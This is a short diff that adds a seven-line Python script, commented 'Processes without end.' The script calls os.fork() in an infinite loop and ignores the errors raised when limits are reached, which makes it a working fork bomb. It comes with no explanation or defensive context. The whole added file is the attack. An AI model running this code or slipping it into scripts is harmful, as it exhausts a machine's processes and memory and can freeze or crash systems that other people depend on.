@@ -1,0 +1,7 @@
+# Processes without end.
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
